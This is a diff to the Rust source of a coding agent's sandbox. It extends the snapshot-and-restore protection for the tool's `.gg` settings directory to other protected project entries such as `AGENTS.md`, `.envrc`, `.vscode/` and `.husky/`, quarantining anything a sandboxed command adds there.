@@ -29,8 +29,12 @@
 //!   previous bytes put back); the command's versions go to the quarantine.
 //! - **The project's `.gg`** (gg's settings, policy, skills and memory): read-only at the bwrap
 //!   level, writable at the landlock level, where a copy is kept before each command and `.gg`
-//!   is put back as it was after it ([`GgKept`]); a `.gg` too large to keep refuses the command
+//!   is put back as it was after it ([`Kept`]); a `.gg` too large to keep refuses the command
 //!   there.
+//! - **The other protected entries that exist at the top** (`AGENTS.md`, `.envrc`, `.vscode/`,
+//!   `.husky/`, …): read-only binds at the bwrap level; at the landlock level each is kept and
+//!   put back the same way ([`Kept::look_protected`]), and entries too large to keep refuse the
+//!   command there.
 //! - **Below the top**, what an agent, editor or git started in a subdirectory reads
 //!   ([`sandbox::protected::ProtectedPath::anywhere`]: `sub/AGENTS.md`, `sub/.envrc`, a new
 //!   `sub/.git` git would not have written, or a `.git` file naming such a git directory) and a
@@ -63,7 +67,9 @@ pub struct Before {
     dirs: Arc<Mutex<ProjectDirs>>,
     started: SystemTime,
     /// The project's `.gg` as it was, where the command's level lets it write there (landlock).
-    gg: Option<GgKept>,
+    gg: Option<Kept>,
+    /// The other protected entries at the top as they were, at the same level ([`Kept`]).
+    protected: Vec<Kept>,
     /// What the top `.git` was when it was no directory (a link or a `gitdir:` file; `None`
     /// when absent or a directory), and whether it was one.
     top_git: Option<Content>,
@@ -91,21 +97,34 @@ struct GitNames {
 }
 
 impl Before {
-    /// Looks at `root` before a command; `dirs` is the session's [`ProjectDirs`]. `gg_writable`:
-    /// the command's level lets it write the project's `.gg` (the landlock level, which cannot
-    /// carve it out), so a copy of it is kept to put back what the command changes there; `Err`
-    /// when it is too large to keep, and the command must not run at that level.
+    /// Looks at `root` before a command; `dirs` is the session's [`ProjectDirs`].
+    /// `protected_writable`: the command's level lets it write the project's `.gg` and the
+    /// other protected entries at its top (the landlock level, which cannot carve them out), so
+    /// a copy of each that exists is kept to put back what the command changes there; `Err`
+    /// when they are too large to keep, and the command must not run at that level.
     pub fn look(
         root: &Path,
         dirs: Arc<Mutex<ProjectDirs>>,
-        gg_writable: bool,
+        protected_writable: bool,
     ) -> Result<Before, String> {
-        let gg = if gg_writable {
-            // The last command's copy: what has not changed since is not read again.
-            let last = dirs.lock().ok().and_then(|mut known| known.gg_kept.take());
-            Some(GgKept::look(root, last)?)
+        let (gg, protected) = if protected_writable {
+            // The last command's copies: what has not changed since is not read again.
+            let (last_gg, last_protected) = dirs
+                .lock()
+                .ok()
+                .map(|mut known| {
+                    (
+                        known.gg_kept.take(),
+                        std::mem::take(&mut known.protected_kept),
+                    )
+                })
+                .unwrap_or_default();
+            (
+                Some(Kept::look(root, last_gg)?),
+                Kept::look_protected(root, last_protected)?,
+            )
         } else {
-            None
+            (None, Vec::new())
         };
         let absent = sandbox::protected::placeholders(root)
             .filter(|p| std::fs::symlink_metadata(p).is_err())
@@ -181,6 +200,7 @@ impl Before {
             dirs,
             started,
             gg,
+            protected,
             top_git,
             top_git_was_dir,
             root_git_like: is_git_like(root),
@@ -205,6 +225,14 @@ impl Before {
             }
             None => Vec::new(),
         };
+        let protected_lines: Vec<String> = self
+            .protected
+            .iter()
+            .flat_map(|kept| kept.sweep(&self.root))
+            .collect();
+        if let Ok(mut known) = self.dirs.lock() {
+            known.protected_kept = self.protected;
+        }
         // Before anything is judged: a link the command re-pointed or replaced is the person's
         // again, and what replaced it is in the quarantine.
         let pinned_lines = pinned_links::sweep(&self.root, &self.pinned);
@@ -372,6 +400,7 @@ impl Before {
         let mut lines = self.notes;
         lines.extend(pinned_lines);
         lines.extend(gg_lines);
+        lines.extend(protected_lines);
         lines.extend(top_lines);
         lines.extend(git_files_lines);
         lines.extend(quarantine(&self.root, &created));
@@ -713,8 +742,20 @@ fn move_aside_and_put_back(
 /// saved while it runs, the sweep moves things in after it) and are not kept; the command may
 /// not make either anything but a directory. The file tools' pre-approved `.gg/agent` is no
 /// exception: at the bwrap level commands cannot write it either.
-struct GgKept {
-    top: GgTop,
+///
+/// The same holds for every other protected entry of [`sandbox::protected::PROTECTED_IN_ROOT`]
+/// that exists at the top of the project when a command starts (`AGENTS.md`, `.envrc`,
+/// `.vscode/`, `.husky/`, `lefthook.yml`, …, bound read-only by bubblewrap): a command at the
+/// landlock level that edits `.husky/pre-commit` would otherwise leave what the person's next
+/// `git commit` runs. Each is kept the same way, and put back the same way after the command.
+struct Kept {
+    /// The entry, relative to the project (`.gg`, `AGENTS.md`, `.github/instructions`).
+    rel: PathBuf,
+    /// Why it is kept, in the tool output.
+    why: &'static str,
+    /// Names at its top that are not kept (gg's own write areas of `.gg`; none elsewhere).
+    own: &'static [&'static str],
+    top: KeptTop,
     /// `.gg/outputs` and `.gg/quarantine` as they were (`None`: absent, or `.gg` no directory).
     own_areas: Vec<(&'static str, Option<Stamp>)>,
     /// An entry whose change time lies at or after this may have been changed again within
@@ -723,28 +764,28 @@ struct GgKept {
     racy_from: (i64, i64),
 }
 
-enum GgTop {
+enum KeptTop {
     Absent,
     /// A link (committed in a cloned repository) or another file: put back if it changes,
     /// never followed.
     NotDir(Content),
-    Dir(GgDir),
+    Dir(KeptDir),
 }
 
 #[derive(Default)]
-struct GgDir {
+struct KeptDir {
     /// Its permission bits.
     mode: u32,
-    entries: std::collections::BTreeMap<OsString, GgEntry>,
+    entries: std::collections::BTreeMap<OsString, KeptEntry>,
 }
 
-struct GgEntry {
+struct KeptEntry {
     stamp: Stamp,
-    node: GgNode,
+    node: KeptNode,
 }
 
-enum GgNode {
-    Dir(GgDir),
+enum KeptNode {
+    Dir(KeptDir),
     Leaf(Content),
 }
 
@@ -779,15 +820,15 @@ impl Stamp {
 
 /// The most entries of `.gg` kept before a command at the landlock level. gg's own files there
 /// are a few dozen (settings, policy, memory notes and daily logs, skills, agent notes); past
-/// this (or [`GG_MAX_BYTES`], or a file over [`MAX_KEPT`]) the command is refused at that level
+/// this (or [`KEPT_MAX_BYTES`], or a file over [`MAX_KEPT`]) the command is refused at that level
 /// rather than run with `.gg` unprotected.
-const GG_MAX_ENTRIES: usize = 5_000;
+const KEPT_MAX_ENTRIES: usize = 5_000;
 
-/// The most bytes of `.gg` kept before a command (see [`GG_MAX_ENTRIES`]).
-const GG_MAX_BYTES: u64 = 16 << 20;
+/// The most bytes of `.gg` kept before a command (see [`KEPT_MAX_ENTRIES`]).
+const KEPT_MAX_BYTES: u64 = 16 << 20;
 
 /// Directories nested deeper than this in `.gg` are not kept (the command is refused).
-const GG_MAX_DEPTH: usize = 32;
+const KEPT_MAX_DEPTH: usize = 32;
 
 /// Why `.gg` is put back, in the tool output.
 const GG_WHY: &str = "inside gg's project settings (policy, settings, memory, skills), which \
@@ -795,145 +836,236 @@ const GG_WHY: &str = "inside gg's project settings (policy, settings, memory, sk
 
 /// What is kept of `.gg` so far, against its limits.
 #[derive(Default)]
-struct GgBudget {
+struct KeptBudget {
     entries: usize,
     bytes: u64,
 }
 
-impl GgKept {
+impl Kept {
     /// Keeps `root/.gg`; why not when it is too large (or cannot be read). What `last` (the
     /// copy kept before the session's last command) holds with the same stamp, and changed
     /// before it was read, has not changed since and is taken from it, not read again.
-    fn look(root: &Path, last: Option<GgKept>) -> Result<GgKept, String> {
-        use rustix::fs::{AtFlags, FileType};
-        let racy_from = epoch_pair(SystemTime::now() - Duration::from_millis(50));
-        let too_large = |what: String| {
-            format!(
-                "the project's .gg {what}, more than gg keeps a copy of before each command at \
-                 the landlock level (where .gg is not read-only to commands and gg puts back \
-                 what a command changes there from that copy); run at the bubblewrap level \
-                 (install bubblewrap), where .gg is read-only to commands, or make .gg smaller"
-            )
-        };
+    fn look(root: &Path, last: Option<Kept>) -> Result<Kept, String> {
+        let mut budget = KeptBudget::default();
+        Kept::look_entry(
+            root,
+            Path::new(".gg"),
+            GG_WHY,
+            GG_OWN_AREAS,
+            last,
+            &mut budget,
+        )
+    }
+
+    /// Keeps each protected entry of [`sandbox::protected::PROTECTED_IN_ROOT`] but `.git` and
+    /// `.gg` (compared on their own) that exists at the top of `root`, together within one
+    /// budget; why not when they are too large to keep (or cannot be read). `last`: the copies
+    /// kept before the session's last command, as for [`Kept::look`].
+    ///
+    /// A placeholder that is a link is left to [`pinned_links`], which puts back a link the
+    /// command re-pointed or replaced.
+    fn look_protected(root: &Path, last: Vec<Kept>) -> Result<Vec<Kept>, String> {
+        use sandbox::protected::{Bind, PROTECTED_IN_ROOT};
+        let mut last: HashMap<PathBuf, Kept> = last
+            .into_iter()
+            .map(|kept| (kept.rel.clone(), kept))
+            .collect();
         let root_fd = open_dir(rustix::fs::CWD, root)
             .map_err(|e| format!("the project could not be read ({e})"))?;
-        let mut own_areas = vec![("outputs", None), ("quarantine", None)];
-        let top = match rustix::fs::statat(&root_fd, ".gg", AtFlags::SYMLINK_NOFOLLOW) {
-            Err(rustix::io::Errno::NOENT) => GgTop::Absent,
-            Err(e) => return Err(format!("the project's .gg could not be read ({e})")),
+        let mut found: Vec<(PathBuf, &'static sandbox::protected::ProtectedPath)> = Vec::new();
+        // One listing of the top finds the one-name entries and the classes
+        // (`*.code-workspace`); an entry of two names (`.github/instructions`) is looked up.
+        for name in
+            dir_names(&root_fd).map_err(|e| format!("the project could not be read ({e})"))?
+        {
+            if let Some(entry) = sandbox::protected::entry_named(&name, true) {
+                found.push((PathBuf::from(name), entry));
+            }
+        }
+        for entry in PROTECTED_IN_ROOT.iter().filter(|p| p.name.contains('/')) {
+            let rel = PathBuf::from(entry.name);
+            if std::fs::symlink_metadata(root.join(&rel)).is_ok() {
+                found.push((rel, entry));
+            }
+        }
+        let mut budget = KeptBudget::default();
+        let mut kept = Vec::new();
+        for (rel, entry) in found {
+            if matches!(entry.bind, Bind::GitDir) || entry.name == ".gg" {
+                continue;
+            }
+            let pinned = entry.bind == Bind::Placeholder
+                && !entry.is_class()
+                && std::fs::symlink_metadata(root.join(&rel)).is_ok_and(|m| m.is_symlink());
+            if pinned {
+                continue;
+            }
+            let last = last.remove(&rel);
+            let entry_kept = Kept::look_entry(root, &rel, entry.why, &[], last, &mut budget)?;
+            kept.push(entry_kept);
+        }
+        Ok(kept)
+    }
+
+    /// Keeps `root/rel` (`why`: why, for the tool output; `own`: names at its top not kept)
+    /// against `budget`, shared by the entries kept together; `last` as for [`Kept::look`].
+    fn look_entry(
+        root: &Path,
+        rel: &Path,
+        why: &'static str,
+        own: &'static [&'static str],
+        last: Option<Kept>,
+        budget: &mut KeptBudget,
+    ) -> Result<Kept, String> {
+        use rustix::fs::{AtFlags, FileType};
+        let racy_from = epoch_pair(SystemTime::now() - Duration::from_millis(50));
+        let shown = rel.display();
+        let too_large = |what: String| {
+            format!(
+                "the project's {shown} {what}, more than gg keeps a copy of before each command \
+                 at the landlock level (where {shown} is not read-only to commands and gg puts \
+                 back what a command changes there from that copy); run at the bubblewrap level \
+                 (install bubblewrap), where it is read-only to commands, or make it smaller"
+            )
+        };
+        let unreadable =
+            |e: &dyn std::fmt::Display| format!("the project's {shown} could not be read ({e})");
+        let (parent_fd, name) = open_parent(root, rel).map_err(|e| unreadable(&e))?;
+        let mut own_areas: Vec<(&'static str, Option<Stamp>)> =
+            own.iter().map(|name| (*name, None)).collect();
+        let top = match rustix::fs::statat(&parent_fd, name, AtFlags::SYMLINK_NOFOLLOW) {
+            Err(rustix::io::Errno::NOENT) => KeptTop::Absent,
+            Err(e) => return Err(unreadable(&e)),
             Ok(stat) if FileType::from_raw_mode(stat.st_mode) == FileType::Directory => {
-                let fd = open_dir(&root_fd, ".gg")
-                    .map_err(|e| format!("the project's .gg could not be read ({e})"))?;
+                let fd = open_dir(&parent_fd, name).map_err(|e| unreadable(&e))?;
                 for (name, was) in &mut own_areas {
                     *was = rustix::fs::statat(&fd, *name, AtFlags::SYMLINK_NOFOLLOW)
                         .ok()
                         .map(|stat| Stamp::of(&stat));
                 }
-                let mut budget = GgBudget::default();
                 let reuse = last.and_then(|last| match last.top {
-                    GgTop::Dir(dir) => Some((dir, last.racy_from)),
+                    KeptTop::Dir(dir) => Some((dir, last.racy_from)),
                     _ => None,
                 });
-                GgTop::Dir(
-                    GgDir::look(&fd, Path::new(".gg"), 0, &mut budget, reuse).map_err(
-                        |e| match e {
-                            GgLookError::TooLarge(what) => too_large(what),
-                            GgLookError::Unreadable(what) => what,
-                        },
-                    )?,
-                )
+                KeptTop::Dir(KeptDir::look(&fd, rel, 0, own, budget, reuse).map_err(
+                    |e| match e {
+                        KeepError::TooLarge(what) => too_large(what),
+                        KeepError::Unreadable(what) => what,
+                    },
+                )?)
             }
             Ok(stat) => {
-                GgTop::NotDir(read_leaf(&root_fd, OsStr::new(".gg"), &stat).map_err(|e| {
+                let content = read_leaf(&parent_fd, name, &stat).map_err(|e| {
                     if e.starts_with("is larger") {
                         too_large(e)
                     } else {
-                        format!("the project's .gg could not be read ({e})")
+                        unreadable(&e)
                     }
-                })?)
+                })?;
+                if let Content::File { bytes, .. } = &content {
+                    budget.bytes += bytes.len() as u64;
+                    if budget.bytes > KEPT_MAX_BYTES {
+                        return Err(too_large(format!(
+                            "brings what is kept to more than {} MiB",
+                            KEPT_MAX_BYTES >> 20
+                        )));
+                    }
+                }
+                KeptTop::NotDir(content)
             }
         };
-        Ok(GgKept {
+        Ok(Kept {
+            rel: rel.to_path_buf(),
+            why,
+            own,
             top,
             own_areas,
             racy_from,
         })
     }
 
-    /// After the command: puts `.gg` back as it was; a line about each thing done.
+    /// After the command: puts the entry back as it was; a line about each thing done.
     fn sweep(&self, root: &Path) -> Vec<String> {
         use rustix::fs::{AtFlags, FileType};
         let mut lines = Vec::new();
-        let gg = root.join(".gg");
-        let root_fd = match open_dir(rustix::fs::CWD, root) {
-            Ok(fd) => fd,
+        let why = self.why;
+        let path = root.join(&self.rel);
+        let (parent_fd, name) = match open_parent(root, &self.rel) {
+            Ok(found) => found,
             Err(e) => {
                 lines.push(format!(
-                    "[gg: the project could not be read after the command ({e}): look at .gg \
-                     before starting gg there again]"
+                    "[gg: the directory holding {} could not be read after the command ({e}): \
+                     look at it before starting gg or opening the project there again]",
+                    self.rel.display()
                 ));
                 return lines;
             }
         };
-        let now = rustix::fs::statat(&root_fd, ".gg", AtFlags::SYMLINK_NOFOLLOW).ok();
+        let now = rustix::fs::statat(&parent_fd, name, AtFlags::SYMLINK_NOFOLLOW).ok();
         let is_dir =
             |stat: &rustix::fs::Stat| FileType::from_raw_mode(stat.st_mode) == FileType::Directory;
-        let made_by_command = GgDir::default();
+        let made_by_command = KeptDir::default();
         let kept = match (&self.top, &now) {
-            (GgTop::Absent, None) => return lines,
-            (GgTop::Absent, Some(stat)) if !is_dir(stat) => {
-                return quarantine(root, &[(gg, GG_WHY.to_string())]);
+            (KeptTop::Absent, None) => return lines,
+            (KeptTop::Absent, Some(stat)) if !is_dir(stat) => {
+                return quarantine(root, &[(path, why.to_string())]);
             }
-            (GgTop::Absent, Some(_)) => &made_by_command,
-            (GgTop::NotDir(content), _) => {
-                if Content::of(&gg).as_ref() != Some(content) {
+            (KeptTop::Absent, Some(_)) => &made_by_command,
+            (KeptTop::NotDir(content), _) => {
+                if Content::of(&path).as_ref() != Some(content) {
                     lines.push(match now {
-                        Some(_) => move_aside_and_put_back(root, &gg, GG_WHY, Some(content)),
-                        None => put_back_removed(&root_fd, root, &gg, |dir, name| {
+                        Some(_) => move_aside_and_put_back(root, &path, why, Some(content)),
+                        None => put_back_removed(&parent_fd, root, &path, why, |dir, name| {
                             content.put_back(dir, name)
                         }),
                     });
                 }
                 return lines;
             }
-            (GgTop::Dir(kept), Some(stat)) if is_dir(stat) => {
+            (KeptTop::Dir(kept), Some(stat)) if is_dir(stat) => {
                 if stat.st_mode & 0o7777 != kept.mode {
-                    lines.push(set_mode_back(&root_fd, root, &gg, kept.mode));
+                    lines.push(set_mode_back(&parent_fd, root, &path, why, kept.mode));
                 }
                 kept
             }
             // Removed, or replaced by a link or a file: what is there goes, the copy comes back.
-            (GgTop::Dir(kept), Some(_)) => {
-                lines.push(replace_with_kept_dir(root, &gg, kept));
+            (KeptTop::Dir(kept), Some(_)) => {
+                lines.push(replace_with_kept_dir(root, &path, why, kept));
                 return lines;
             }
-            (GgTop::Dir(kept), None) => {
-                lines.push(put_back_removed(&root_fd, root, &gg, |dir, name| {
-                    kept.put_back(dir, name)
-                }));
-                return lines;
-            }
-        };
-        let gg_fd = match open_dir(&root_fd, ".gg") {
-            Ok(fd) => fd,
-            Err(e) => {
-                lines.push(format!(
-                    "[gg: .gg could not be read after the command ({e}): look at it before \
-                     starting gg there again]"
+            (KeptTop::Dir(kept), None) => {
+                lines.push(put_back_removed(
+                    &parent_fd,
+                    root,
+                    &path,
+                    why,
+                    |dir, name| kept.put_back(dir, name),
                 ));
                 return lines;
             }
         };
-        // gg's own areas: a directory or nothing. First, so that the quarantine can be used.
+        let fd = match open_dir(&parent_fd, name) {
+            Ok(fd) => fd,
+            Err(e) => {
+                lines.push(format!(
+                    "[gg: {} could not be read after the command ({e}): look at it before \
+                     starting gg or opening the project there again]",
+                    self.rel.display()
+                ));
+                return lines;
+            }
+        };
+        // Its own areas (`.gg`'s): a directory or nothing. First, so that the quarantine can
+        // be used.
         for (name, was) in &self.own_areas {
-            if let Ok(stat) = rustix::fs::statat(&gg_fd, *name, AtFlags::SYMLINK_NOFOLLOW)
+            if let Ok(stat) = rustix::fs::statat(&fd, *name, AtFlags::SYMLINK_NOFOLLOW)
                 && !is_dir(&stat)
                 && Some(Stamp::of(&stat)) != *was
             {
                 lines.extend(quarantine(
                     root,
                     &[(
-                        gg.join(name),
+                        path.join(name),
                         format!("where gg keeps its {name}, which is gg's own directory"),
                     )],
                 ));
@@ -941,9 +1073,10 @@ impl GgKept {
         }
         kept.compare(
             root,
-            &gg_fd,
-            Path::new(".gg"),
-            true,
+            &fd,
+            &self.rel,
+            self.own,
+            why,
             self.racy_from,
             &mut lines,
         );
@@ -951,43 +1084,59 @@ impl GgKept {
     }
 }
 
-/// Why [`GgDir::look`] could not keep `.gg`.
-enum GgLookError {
+/// The directory holding `rel` (below `root`), opened without following a link on the way,
+/// and `rel`'s last name.
+fn open_parent<'a>(root: &Path, rel: &'a Path) -> std::io::Result<(OwnedFd, &'a OsStr)> {
+    let name = rel
+        .file_name()
+        .ok_or_else(|| std::io::Error::other("it has no name"))?;
+    let mut fd = open_dir(rustix::fs::CWD, root)?;
+    if let Some(parent) = rel.parent() {
+        for component in parent.components() {
+            fd = open_dir(&fd, component.as_os_str())?;
+        }
+    }
+    Ok((fd, name))
+}
+
+/// Why [`KeptDir::look`] could not keep an entry.
+enum KeepError {
     /// Over a limit: fail closed.
     TooLarge(String),
     /// An entry could not be read (said with its path).
     Unreadable(String),
 }
 
-impl GgDir {
-    /// Keeps the directory open at `fd` (`rel`: its path in the project, for messages).
-    /// `last`: the same directory in the last copy, and when that copy was made (its racy
-    /// bound).
+impl KeptDir {
+    /// Keeps the directory open at `fd` (`rel`: its path in the project, for messages; `own`:
+    /// names at the top, `depth` 0, that are not kept). `last`: the same directory in the last
+    /// copy, and when that copy was made (its racy bound).
     fn look(
         fd: &OwnedFd,
         rel: &Path,
         depth: usize,
-        budget: &mut GgBudget,
-        mut last: Option<(GgDir, (i64, i64))>,
-    ) -> Result<GgDir, GgLookError> {
+        own: &[&str],
+        budget: &mut KeptBudget,
+        mut last: Option<(KeptDir, (i64, i64))>,
+    ) -> Result<KeptDir, KeepError> {
         use rustix::fs::{AtFlags, FileType};
         let unreadable = |rel: &Path, e: &dyn std::fmt::Display| {
-            GgLookError::Unreadable(format!("{} could not be read ({e})", rel.display()))
+            KeepError::Unreadable(format!("{} could not be read ({e})", rel.display()))
         };
         let stat = rustix::fs::fstat(fd).map_err(|e| unreadable(rel, &e))?;
-        let mut dir = GgDir {
+        let mut dir = KeptDir {
             mode: stat.st_mode & 0o7777,
             entries: Default::default(),
         };
         for name in dir_names(fd).map_err(|e| unreadable(rel, &e))? {
-            if depth == 0 && GG_OWN_AREAS.iter().any(|own| name == *own) {
+            if depth == 0 && own.iter().any(|own| name == *own) {
                 continue;
             }
             let path = rel.join(&name);
             budget.entries += 1;
-            if budget.entries > GG_MAX_ENTRIES {
-                return Err(GgLookError::TooLarge(format!(
-                    "has more than {GG_MAX_ENTRIES} entries"
+            if budget.entries > KEPT_MAX_ENTRIES {
+                return Err(KeepError::TooLarge(format!(
+                    "has more than {KEPT_MAX_ENTRIES} entries"
                 )));
             }
             let stat = rustix::fs::statat(fd, &name, AtFlags::SYMLINK_NOFOLLOW)
@@ -998,22 +1147,22 @@ impl GgDir {
                 Some((entry, *racy_from))
             });
             let node = if FileType::from_raw_mode(stat.st_mode) == FileType::Directory {
-                if depth + 1 >= GG_MAX_DEPTH {
-                    return Err(GgLookError::TooLarge(format!(
-                        "has directories nested more than {GG_MAX_DEPTH} deep"
+                if depth + 1 >= KEPT_MAX_DEPTH {
+                    return Err(KeepError::TooLarge(format!(
+                        "has directories nested more than {KEPT_MAX_DEPTH} deep"
                     )));
                 }
                 let sub = open_dir(fd, &name).map_err(|e| unreadable(&path, &e))?;
                 let last = was.and_then(|(entry, racy_from)| match entry.node {
-                    GgNode::Dir(dir) => Some((dir, racy_from)),
-                    GgNode::Leaf(_) => None,
+                    KeptNode::Dir(dir) => Some((dir, racy_from)),
+                    KeptNode::Leaf(_) => None,
                 });
-                GgNode::Dir(GgDir::look(&sub, &path, depth + 1, budget, last)?)
+                KeptNode::Dir(KeptDir::look(&sub, &path, depth + 1, own, budget, last)?)
             } else {
                 // Unchanged since it was read (a write would have moved its change time past
                 // that copy's racy bound): the bytes kept then are its bytes now.
                 let unchanged = was.and_then(|(entry, racy_from)| match entry.node {
-                    GgNode::Leaf(content)
+                    KeptNode::Leaf(content)
                         if entry.stamp == stamp && entry.stamp.changed < racy_from =>
                     {
                         Some(content)
@@ -1026,36 +1175,39 @@ impl GgDir {
                 }
                 .map_err(|e| {
                     if e.starts_with("is larger") {
-                        GgLookError::TooLarge(format!("holds {}, which {e}", path.display()))
+                        KeepError::TooLarge(format!("holds {}, which {e}", path.display()))
                     } else {
                         unreadable(&path, &e)
                     }
                 })?;
                 if let Content::File { bytes, .. } = &content {
                     budget.bytes += bytes.len() as u64;
-                    if budget.bytes > GG_MAX_BYTES {
-                        return Err(GgLookError::TooLarge(format!(
+                    if budget.bytes > KEPT_MAX_BYTES {
+                        return Err(KeepError::TooLarge(format!(
                             "holds more than {} MiB",
-                            GG_MAX_BYTES >> 20
+                            KEPT_MAX_BYTES >> 20
                         )));
                     }
                 }
-                GgNode::Leaf(content)
+                KeptNode::Leaf(content)
             };
-            dir.entries.insert(name, GgEntry { stamp, node });
+            dir.entries.insert(name, KeptEntry { stamp, node });
         }
         Ok(dir)
     }
 
     /// After the command: compares the directory open at `fd` (`rel` in the project below
     /// `root`) with what was kept, putting back what the command changed or removed and moving
-    /// aside what it added; `top`: `.gg` itself, whose own areas are not compared.
+    /// aside what it added; `own`: names here that are not compared (the kept entry's own
+    /// areas at its top, none below); `why`: why it is kept, for the tool output.
+    #[allow(clippy::too_many_arguments)]
     fn compare(
         &self,
         root: &Path,
         fd: &OwnedFd,
         rel: &Path,
-        top: bool,
+        own: &[&str],
+        why: &'static str,
         racy_from: (i64, i64),
         lines: &mut Vec<String>,
     ) {
@@ -1072,7 +1224,7 @@ impl GgDir {
             }
         };
         for name in &now {
-            if top && GG_OWN_AREAS.iter().any(|own| name == *own) {
+            if own.iter().any(|own| name == *own) {
                 continue;
             }
             let path = root.join(rel).join(name);
@@ -1081,17 +1233,17 @@ impl GgDir {
             };
             let stamp = Stamp::of(&stat);
             match self.entries.get(name) {
-                None => lines.extend(quarantine(root, &[(path, GG_WHY.to_string())])),
-                Some(GgEntry {
-                    node: GgNode::Dir(kept),
+                None => lines.extend(quarantine(root, &[(path, why.to_string())])),
+                Some(KeptEntry {
+                    node: KeptNode::Dir(kept),
                     ..
                 }) if stamp.is_dir() => {
                     if stat.st_mode & 0o7777 != kept.mode {
-                        lines.push(set_mode_back(fd, root, &path, kept.mode));
+                        lines.push(set_mode_back(fd, root, &path, why, kept.mode));
                     }
                     match open_dir(fd, name) {
                         Ok(sub) => {
-                            kept.compare(root, &sub, &rel.join(name), false, racy_from, lines)
+                            kept.compare(root, &sub, &rel.join(name), &[], why, racy_from, lines)
                         }
                         Err(e) => lines.push(format!(
                             "[gg: {} could not be read after the command ({e}): look at it \
@@ -1100,19 +1252,19 @@ impl GgDir {
                         )),
                     }
                 }
-                Some(GgEntry {
-                    node: GgNode::Dir(kept),
+                Some(KeptEntry {
+                    node: KeptNode::Dir(kept),
                     ..
-                }) => lines.push(replace_with_kept_dir(root, &path, kept)),
-                Some(GgEntry {
+                }) => lines.push(replace_with_kept_dir(root, &path, why, kept)),
+                Some(KeptEntry {
                     stamp: was,
-                    node: GgNode::Leaf(content),
+                    node: KeptNode::Leaf(content),
                 }) => {
                     let same = stamp == *was
                         && (was.changed < racy_from
                             || read_leaf(fd, name, &stat).ok().as_ref() == Some(content));
                     if !same {
-                        lines.push(move_aside_and_put_back(root, &path, GG_WHY, Some(content)));
+                        lines.push(move_aside_and_put_back(root, &path, why, Some(content)));
                     }
                 }
             }
@@ -1121,7 +1273,7 @@ impl GgDir {
         for (name, entry) in &self.entries {
             if !now.contains(name) {
                 let path = root.join(rel).join(name);
-                lines.push(put_back_removed(fd, root, &path, |dir, name| {
+                lines.push(put_back_removed(fd, root, &path, why, |dir, name| {
                     entry.put_back(dir, name)
                 }));
             }
@@ -1145,21 +1297,21 @@ impl GgDir {
     }
 }
 
-impl GgEntry {
+impl KeptEntry {
     fn put_back(&self, dir: &OwnedFd, name: &OsStr) -> std::io::Result<()> {
         match &self.node {
-            GgNode::Dir(kept) => kept.put_back(dir, name),
-            GgNode::Leaf(content) => content.put_back(dir, name),
+            KeptNode::Dir(kept) => kept.put_back(dir, name),
+            KeptNode::Leaf(content) => content.put_back(dir, name),
         }
     }
 }
 
-/// gg's own write areas in `.gg`, not kept (see [`GgKept`]).
+/// gg's own write areas in `.gg`, not kept (see [`Kept`]).
 const GG_OWN_AREAS: &[&str] = &["outputs", "quarantine"];
 
 /// Moves what the command left at `path` (where a directory of `.gg` was) aside and makes the
 /// kept directory again there; the line that says so.
-fn replace_with_kept_dir(root: &Path, path: &Path, kept: &GgDir) -> String {
+fn replace_with_kept_dir(root: &Path, path: &Path, why: &str, kept: &KeptDir) -> String {
     let name = shown(root, path);
     match set_aside(root, path) {
         Ok((spot, aside)) => {
@@ -1169,17 +1321,17 @@ fn replace_with_kept_dir(root: &Path, path: &Path, kept: &GgDir) -> String {
             };
             match kept.put_back(&spot.dir, &spot.name) {
                 Ok(()) => format!(
-                    "[gg: the command replaced the directory {name}, {GG_WHY}; {theirs}, the \
+                    "[gg: the command replaced the directory {name}, {why}; {theirs}, the \
                      previous one put back]"
                 ),
                 Err(e) => format!(
-                    "[gg: the command replaced the directory {name}, {GG_WHY}; {theirs}, and the \
+                    "[gg: the command replaced the directory {name}, {why}; {theirs}, and the \
                      previous one could not be put back ({e})]"
                 ),
             }
         }
         Err(e) => format!(
-            "[gg: the command replaced the directory {name}, {GG_WHY}, and its version could not \
+            "[gg: the command replaced the directory {name}, {why}, and its version could not \
              be moved aside ({e}): look at it before starting gg there again]"
         ),
     }
@@ -1191,6 +1343,7 @@ fn put_back_removed(
     dir: &OwnedFd,
     root: &Path,
     path: &Path,
+    why: &str,
     put: impl FnOnce(&OwnedFd, &OsStr) -> std::io::Result<()>,
 ) -> String {
     let name = shown(root, path);
@@ -1199,16 +1352,16 @@ fn put_back_removed(
         None => Err(std::io::Error::other("it has no name")),
     };
     match result {
-        Ok(()) => format!("[gg: the command removed {name}, {GG_WHY}; put back]"),
-        Err(e) => format!(
-            "[gg: the command removed {name}, {GG_WHY}, and it could not be put back ({e})]"
-        ),
+        Ok(()) => format!("[gg: the command removed {name}, {why}; put back]"),
+        Err(e) => {
+            format!("[gg: the command removed {name}, {why}, and it could not be put back ({e})]")
+        }
     }
 }
 
 /// Sets the permissions of the directory `path` (in the directory open at `dir`) back to `mode`;
 /// the line that says so.
-fn set_mode_back(dir: &OwnedFd, root: &Path, path: &Path, mode: u32) -> String {
+fn set_mode_back(dir: &OwnedFd, root: &Path, path: &Path, why: &str, mode: u32) -> String {
     use rustix::fs::{AtFlags, Mode};
     let name = shown(root, path);
     // A directory (just `stat`ed without following a link, and the command has ended): its
@@ -1222,10 +1375,10 @@ fn set_mode_back(dir: &OwnedFd, root: &Path, path: &Path, mode: u32) -> String {
     };
     match result {
         Ok(()) => {
-            format!("[gg: the command changed the permissions of {name}, {GG_WHY}; put back]")
+            format!("[gg: the command changed the permissions of {name}, {why}; put back]")
         }
         Err(e) => format!(
-            "[gg: the command changed the permissions of {name}, {GG_WHY}, and they could not be \
+            "[gg: the command changed the permissions of {name}, {why}, and they could not be \
              put back ({e})]"
         ),
     }
@@ -1398,8 +1551,10 @@ pub struct ProjectDirs {
     /// The directory `core.hooksPath` names in the work tree, asked of git once and again only
     /// when `.git/config` changes (the identity of the file it was asked with).
     hooks_path: Option<(Option<ConfigStamp>, Option<PathBuf>)>,
-    /// The copy of `.gg` kept before the last command at the landlock level ([`GgKept`]).
-    gg_kept: Option<GgKept>,
+    /// The copy of `.gg` kept before the last command at the landlock level ([`Kept`]).
+    gg_kept: Option<Kept>,
+    /// The copies of the other protected entries kept before the last command there.
+    protected_kept: Vec<Kept>,
 }
 
 /// What tells one `.git/config` from another cheaply: its inode mixed with its size, and its
@@ -2405,16 +2560,95 @@ mod tests {
     /// The copy of `.gg` taken from the last command's keeps only what has not changed since:
     /// a file rewritten between commands (same size, by gg's own tools or the person) is read
     /// again, so what is put back after the next command is its new text.
